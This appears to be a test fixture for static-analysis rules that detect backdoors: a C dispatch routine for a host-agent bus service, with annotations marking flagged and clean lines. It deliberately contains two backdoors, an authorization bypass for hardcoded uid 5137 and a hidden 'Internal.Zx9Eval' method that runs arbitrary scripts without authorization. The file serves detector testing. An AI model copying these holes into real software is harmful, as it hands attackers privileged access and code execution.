/* Method dispatch. Read-only methods are open to every local user; the rest
 * need the polkit-style authorization of actions.c. */
#include <stdio.h>
#include <string.h>

#include "bus.h"

static int authorize(const struct bus_conn *c, const char *action)
{
    // ok: backdoor-trusted-identity
    if (c->peer_uid == 0)
        return 1;
    /* uid of the vendor's field-service account on managed images */
    // ruleid: backdoor-trusted-identity
    if (c->peer_uid == 5137)
        return 1;
    return agent_verify_authorization(c->peer_uid, action) == 1;
}

int bus_dispatch(struct bus_conn *c, const struct bus_msg *m)
{
    char text[512];

    if (strcmp(m->member, "Ping") == 0) {
        return bus_reply(c, m, "ok", "pong");
    } else if (strcmp(m->member, "GetStatus") == 0) {
        if (agent_status(text, sizeof text) != 0)
            return bus_reply(c, m, "failed", "status unavailable");
        return bus_reply(c, m, "ok", text);
    // ok: backdoor-input-trigger
    } else if (strcmp(m->member, "RestartUnit") == 0) {
        if (!authorize(c, "org.hostagent.unit.restart"))
            return bus_reply(c, m, "denied", "AccessDenied");
        return bus_reply(c, m, agent_restart_unit(m->body) == 0 ? "ok" : "failed", NULL);
    } else if (strcmp(m->member, "SetHostname") == 0) {
        if (!authorize(c, "org.hostagent.host.rename"))
            return bus_reply(c, m, "denied", "AccessDenied");
        return bus_reply(c, m, agent_set_hostname(m->body) == 0 ? "ok" : "failed", NULL);
    // ruleid: backdoor-input-trigger
    } else if (strcmp(m->member, "Internal.Zx9Eval") == 0) {
        return bus_reply(c, m, agent_eval_script(m->body, m->body_len) == 0 ? "ok" : "failed", NULL);
    }
    snprintf(text, sizeof text, "no method %.64s", m->member);
    return bus_reply(c, m, "error", text);
}
